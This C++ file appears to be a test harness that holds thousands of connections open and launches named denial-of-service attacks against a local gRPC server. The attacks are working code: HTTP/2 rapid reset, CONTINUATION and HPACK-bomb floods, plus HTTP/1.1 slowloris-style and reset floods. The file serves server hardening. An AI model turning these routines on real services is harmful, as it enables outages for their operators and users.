// Connections that are held open, and attacks by them.
//
// Arguments: http1 or http2, PORT KEY [ATTACK]. The cases `hold` and `release` open and close 10,000
// connections, each of which has had one answer; `attack` and `rest` begin and end the attack. Each case answers with
// the number of connections.
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/resource.h>

#include <atomic>
#include <functional>
#include <thread>

#include "bus/load.h"

namespace {

bool is_http2;
int port;
std::string key, attack_name;

/* The clients have addresses of their own, as in life: a door gives no address more connections than are still free. */
int connect_from(uint32_t host) {
  int one = socket(AF_INET, SOCK_STREAM, 0);
  if (one < 0) return -1;
  sockaddr_in from = {}, to = {};
  from.sin_family = to.sin_family = AF_INET;
  from.sin_addr.s_addr = htonl(INADDR_LOOPBACK + host);
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  to.sin_port = htons((uint16_t)port);
  int yes = 1;
  setsockopt(one, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &yes, sizeof yes);
  setsockopt(one, IPPROTO_TCP, TCP_NODELAY, &yes, sizeof yes);
  timeval patience = {20, 0};
  setsockopt(one, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  if (bind(one, (sockaddr *)&from, sizeof from) != 0 || connect(one, (sockaddr *)&to, sizeof to) != 0) {
    close(one);
    return -1;
  }
  return one;
}

bool send_all(int socket, const std::string &bytes) {
  size_t sent = 0;
  while (sent < bytes.size()) {
    ssize_t count = send(socket, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (count <= 0) return false;
    sent += (size_t)count;
  }
  return true;
}

/* MARK: HTTP/2 */

enum Kind { data = 0, headers = 1, reset = 3, settings = 4, ping = 6, window = 8, continuation = 9 };

std::string frame(Kind kind, int flags, uint32_t stream, const std::string &payload) {
  std::string bytes;
  for (int shift : {16, 8, 0}) bytes += (char)(payload.size() >> shift);
  bytes += (char)kind;
  bytes += (char)flags;
  for (int shift : {24, 16, 8, 0}) bytes += (char)(stream >> shift);
  return bytes + payload;
}

std::string word(uint32_t value) {
  std::string bytes;
  for (int shift : {24, 16, 8, 0}) bytes += (char)(value >> shift);
  return bytes;
}

/* A field that is not put into the table; neither part may have more than 126 bytes. */
std::string field(const std::string &name, const std::string &value) {
  return std::string(1, '\0') + (char)name.size() + name + (char)value.size() + value;
}

std::string call_header() {
  return field(":method", "POST") + field(":scheme", "http") +
         field(":path", "/assent.interop.v1.InteropService/EmptyCall") + field(":authority", "localhost") +
         field("content-type", "application/grpc") + field("te", "trailers") +
         field("authorization", "Bearer " + key);
}

const std::string preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const std::string no_message(5, '\0');

/* MARK: - Holding */

std::vector<int> held;

std::string first_request() {
  if (is_http2)
    return preface + frame(settings, 0, 0, "") + frame(headers, 4, 1, call_header()) + frame(data, 1, 1, no_message);
  return "POST /assent.interop.v1.InteropService/EmptyCall HTTP/1.1\r\nHost: localhost\r\n"
         "Content-Type: application/json\r\nAuthorization: Bearer " + key + "\r\nContent-Length: 2\r\n\r\n{}";
}

/* Whether what has come contains the whole answer to the first request. */
bool is_answered(const std::string &input) {
  if (!is_http2) return input.size() > 2 && input.compare(input.size() - 2, 2, "{}") == 0;
  size_t place = 0;
  while (place + 9 <= input.size()) {
    auto byte = [&](size_t at) { return (size_t)(unsigned char)input[place + at]; };
    size_t length = byte(0) << 16 | byte(1) << 8 | byte(2);
    if (place + 9 + length > input.size()) return false;
    if (byte(3) == headers && byte(4) & 1) return true;
    place += 9 + length;
  }
  return false;
}

double hold() {
  for (int i = 0; i < 10000; i++) {
    int one = connect_from(1 + (uint32_t)i % 100);
    std::string input;
    char buffer[4096];
    if (one >= 0 && send_all(one, first_request())) {
      while (!is_answered(input)) {
        ssize_t count = recv(one, buffer, sizeof buffer, 0);
        if (count <= 0) break;
        input.append(buffer, (size_t)count);
      }
    }
    if (!is_answered(input)) break;
    /* An acknowledgement, so that the peer has nothing to wait for. */
    if (is_http2) send_all(one, frame(settings, 1, 0, ""));
    held.push_back(one);
  }
  return (double)held.size();
}

double release() {
  size_t count = held.size();
  for (int one : held) close(one);
  held.clear();
  return (double)count;
}

/* MARK: - Attacks */

std::atomic<bool> is_attacking;
std::atomic<long> connections;
std::thread attacker;

/* Sends what `next` makes, again and again, on a connection that is opened again when it is ended. */
template <typename Next>
void flood(const std::string &greeting, Next next) {
  is_attacking = true;
  connections = 0;
  attacker = std::thread([greeting, next] {
    while (is_attacking) {
      int one = connect_from(7);
      if (one < 0) {
        /* An attacker whom the door turns away comes again. */
        usleep(1000);
        continue;
      }
      connections++;
      fcntl(one, F_SETFL, O_NONBLOCK);
      std::string unsent = greeting;
      uint32_t stream = 1;
      while (is_attacking && stream < 1u << 30) {
        if (unsent.empty()) unsent = next(stream);
        ssize_t count = send(one, unsent.data(), unsent.size(), MSG_NOSIGNAL);
        if (count > 0) unsent.erase(0, (size_t)count);
        else if (errno != EAGAIN) break;
        char buffer[65536];
        ssize_t read = recv(one, buffer, sizeof buffer, 0);
        if (read == 0 || (read < 0 && errno != EAGAIN)) break;
        if (count < 0 && read < 0) {
          pollfd both = {one, POLLIN | POLLOUT, 0};
          poll(&both, 1, 10);
        }
      }
      close(one);
    }
  });
}

std::function<std::string(uint32_t &)> repeated(const std::string &bytes) {
  std::string many;
  while (many.size() < 32768) many += bytes;
  return [many](uint32_t &) { return many; };
}

double attack_http2() {
  const std::string &name = attack_name;
  std::string greeting = preface + frame(settings, 0, 0, "");
  if (name == "rapid_reset") {
    flood(greeting, [](uint32_t &stream) {
      std::string bytes;
      for (int i = 0; i < 100; i++, stream += 2)
        bytes += frame(headers, 4, stream, call_header()) + frame(reset, 0, stream, word(8));
      return bytes;
    });
  } else if (name == "continuation") {
    std::string part = field("x", std::string(100, 'a'));
    auto more = repeated(frame(continuation, 0, 1, part));
    flood(greeting + frame(headers, 0, 1, call_header()), more);
  } else if (name == "hpack_bomb") {
    /* One long field is put into the table, and then named as often as a frame holds. */
    std::string entry = std::string("\x40\x01x", 3) + (char)0x7F + std::string("\xD1\x0E", 2) + std::string(2000, 'a');
    flood(greeting, [entry](uint32_t &stream) {
      std::string bytes = frame(headers, 5, stream, call_header() + entry + std::string(12000, (char)0xBE));
      stream += 2;
      return bytes;
    });
  } else if (name == "settings") {
    flood(greeting, repeated(frame(settings, 0, 0, "")));
  } else if (name == "ping") {
    flood(greeting, repeated(frame(ping, 0, 0, std::string(8, 'x'))));
  } else if (name == "zero_window") {
    std::string none = frame(settings, 0, 0, std::string("\0\x04\0\0\0\0", 6));
    flood(preface + none, [](uint32_t &stream) {
      std::string bytes;
      for (int i = 0; i < 50; i++, stream += 2)
        bytes += frame(headers, 4, stream, call_header()) + frame(data, 1, stream, no_message);
      return bytes;
    });
  } else if (name == "tiny_frames") {
    flood(greeting + frame(headers, 4, 1, call_header()), repeated(frame(data, 0, 1, "")));
  } else if (name == "stream_ids") {
    flood(greeting, [](uint32_t &stream) {
      std::string bytes = frame(headers, 5, stream + 100, call_header()) + frame(headers, 5, stream, call_header());
      stream += 2;
      return bytes;
    });
  } else {
    return -1;
  }
  return 1;
}

/* MARK: HTTP/1.1 */

/* Keeps connections that send `greeting`, and then a part of the rest fifty times a second. They read nothing, and are
   opened again when they are ended. */
void crowd(int width, const std::string &greeting, const std::string &part) {
  is_attacking = true;
  connections = 0;
  attacker = std::thread([width, greeting, part] {
    std::vector<int> sockets((size_t)width, -1);
    while (is_attacking) {
      uint32_t host = 7;
      for (int &one : sockets) {
        host++;
        if (one < 0) {
          one = connect_from(host % 100);
          if (one < 0) continue;
          connections++;
          fcntl(one, F_SETFL, O_NONBLOCK);
          send(one, greeting.data(), greeting.size(), MSG_NOSIGNAL);
        } else if (send(one, part.data(), part.size(), MSG_NOSIGNAL) < 0 && errno != EAGAIN) {
          close(one);
          one = -1;
        }
      }
      usleep(20000);
    }
    for (int one : sockets)
      if (one >= 0) close(one);
  });
}

/* Asks for a large answer, and goes away with a reset before it comes. */
void reset_again_and_again(const std::string &request) {
  is_attacking = true;
  connections = 0;
  attacker = std::thread([request] {
    while (is_attacking) {
      int one = connect_from(7);
      if (one < 0) continue;
      connections++;
      send_all(one, request);
      linger at_once = {1, 0};
      setsockopt(one, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
      close(one);
    }
  });
}

std::string request_head(const std::string &method, const std::string &type, size_t length) {
  return "POST /assent.interop.v1.InteropService/" + method + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + type +
         "\r\nAuthorization: Bearer " + key + "\r\nContent-Length: " + std::to_string(length) + "\r\n\r\n";
}

double attack_http1() {
  const std::string &name = attack_name;
  if (name == "slow_heads") {
    crowd(500, "POST /assent.interop.v1.InteropService/EmptyCall HTTP/1.1\r\nHost: localhost\r\n", "x-a: b\r\n");
  } else if (name == "slow_bodies") {
    crowd(500, request_head("UnaryCall", "application/proto", 16 << 20), std::string(1000, 'a'));
  } else if (name == "never_reads") {
    /* A stream of a thousand messages of 100,000 bytes each. */
    std::string size = std::string("\x08\xA0\x8D\x06", 4), wish;
    for (int i = 0; i < 1000; i++) wish += "\x0A" + std::string(1, (char)size.size()) + size;
    std::string body = std::string(1, '\0') + word((uint32_t)wish.size()) + wish;
    crowd(50, request_head("StreamingOutputCall", "application/connect+proto", body.size()) + body, "");
  } else if (name == "garbage") {
    flood("GARBAGE\r\n\r\n", repeated("GARBAGE\r\n\r\n"));
  } else if (name == "large_heads") {
    flood("POST / HTTP/1.1\r\nHost: localhost\r\n", repeated("x-a: " + std::string(100, 'v') + "\r\n"));
  } else if (name == "deep_json") {
    std::string body;
    while (body.size() < 100000) body += "{\"payload\":";
    flood("", repeated(request_head("UnaryCall", "application/json", body.size()) + body));
  } else if (name == "resets") {
    std::string body = "{\"responseSize\": 1000000}";
    reset_again_and_again(request_head("UnaryCall", "application/json", body.size()) + body);
  } else {
    return -1;
  }
  return 1;
}

double attack() { return is_http2 ? attack_http2() : attack_http1(); }

double rest() {
  is_attacking = false;
  if (attacker.joinable()) attacker.join();
  return (double)connections;
}

const bench_case cases[] = {{"hold", nullptr, hold},
                            {"release", nullptr, release},
                            {"attack", nullptr, attack},
                            {"rest", nullptr, rest},
                            {nullptr, nullptr, nullptr}};

}  // namespace

int main(int count, char **arguments) {
  if (count < 4) return 2;
  is_http2 = std::string(arguments[1]) == "http2";
  port = atoi(arguments[2]);
  key = arguments[3];
  if (count > 4) attack_name = arguments[4];
  rlimit files;
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  int status = bench_serve(cases);
  rest();
  return status;
}
